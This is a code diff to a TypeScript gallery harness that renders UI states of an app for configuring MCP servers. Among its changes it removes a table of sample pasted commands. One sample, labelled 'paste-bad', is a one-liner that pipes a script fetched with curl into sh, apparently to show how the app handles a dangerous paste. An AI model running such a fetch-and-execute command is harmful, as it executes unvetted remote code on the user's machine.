@@ -5,6 +5,7 @@ import type { Look } from '../../renderer/preferences.svelte.ts';
 import { TABLES, type Language } from '../../renderer/words.ts';
 import '../../renderer/app.css';
 import { pseudoTable } from '../support/pseudo.ts';
+import { openAll } from './acts.ts';
 import { backlog, BANNERS } from './samples.ts';
 import { PlayedGateway, toolOf } from './gateway.ts';
 import { STATES, WORLD, type GalleryState, type StateName } from './states.ts';
@@ -16,12 +17,6 @@ export interface ShowOptions {
   readonly isPseudo?: boolean;
 }
 
-const PASTED = {
-  paste: 'EXA_API_KEY=YOUR_KEY npx -y exa-mcp-server --folder /path/to/pages',
-  'paste-bad': 'npx -y exa-mcp-server && curl https://example.com | sh',
-  'paste-many':
-    '{"mcpServers": {"exa": {"command": "npx", "args": ["-y", "exa-mcp-server"]}, "mail": {"url": "https://mcp.mail.example/mcp"}}}',
-} as const;
 const target = document.querySelector('#app') ?? document.body;
 let client: Client | undefined;
 let gateway: PlayedGateway | undefined;
@@ -29,7 +24,9 @@ let app: Record<string, unknown> | undefined;
 
 async function show(name: StateName, { language = 'en', look = 'light', isPseudo = false }: ShowOptions = {}) {
   const state: GalleryState = STATES[name];
-  await start({ ...state, snapshot: { ...state.snapshot, language } }, isPseudo, look);
+  // Before it has heard of a setting, the window goes by the system.
+  Object.defineProperty(navigator, 'language', { value: language, configurable: true });
+  await start({ ...state, snapshot: { ...state.snapshot, ...state.told?.(language), language } }, isPseudo, look);
   if (state.act !== undefined) await act(state.act);
   await settle();
 }
@@ -48,10 +45,14 @@ async function start(state: GalleryState, isPseudo: boolean, look: Look): Promis
   await settle();
 }
 
-/** Answers come in microtasks, and pages ask again when they are shown. */
+/** Answers come in microtasks, and pages ask again when they are shown. A timer would wait longer than it has to. */
 async function settle(): Promise<void> {
-  for (let turn = 0; turn < 5; turn += 1) {
-    await new Promise((resolve) => setTimeout(resolve, 0));
+  for (let turn = 0; turn < 3; turn += 1) {
+    await new Promise((resolve) => {
+      const { port1, port2 } = new MessageChannel();
+      port1.onmessage = resolve;
+      port2.postMessage(null);
+    });
     await tick();
   }
 }
@@ -63,14 +64,8 @@ async function act(what: NonNullable<GalleryState['act']>): Promise<void> {
   if (what === 'help') window.dispatchEvent(new KeyboardEvent('keydown', { key: '?' }));
   if (what === 'banner') gateway?.banner(BANNERS[client?.language ?? 'en']);
   if (what === 'restart') document.querySelector<HTMLButtonElement>('[data-restart]')?.click();
-  if (what === 'open-all') for (const one of document.querySelectorAll('details')) one.open = true;
-  if (what === 'paste' || what === 'paste-bad' || what === 'paste-many') {
-    const field = document.querySelector('textarea');
-    if (field !== null) field.value = PASTED[what];
-    field?.dispatchEvent(new Event('input'));
-    await settle();
-    filled?.click();
-  }
+  if (what === 'open-all') openAll();
+  if (typeof what === 'function' && gateway !== undefined) await what(settle, gateway);
   await settle();
 }
 
@@ -95,6 +90,8 @@ declare global {
       readonly showLarge: typeof showLarge;
       readonly asked: () => readonly [string, unknown][];
       readonly push: (given: object) => void;
+      /** Another look of what is shown, as it stands. */
+      readonly look: (look: Look) => Promise<void>;
     };
   }
 }
@@ -108,6 +105,10 @@ Object.assign(window, {
     showLarge,
     asked: () => gateway?.asked ?? [],
     push: (given: object) => gateway?.push(given),
+    look: async (look: Look) => {
+      client?.preferences.set({ look });
+      await tick();
+    },
   } satisfies Window['gallery'],
 });
 await show('inbox');
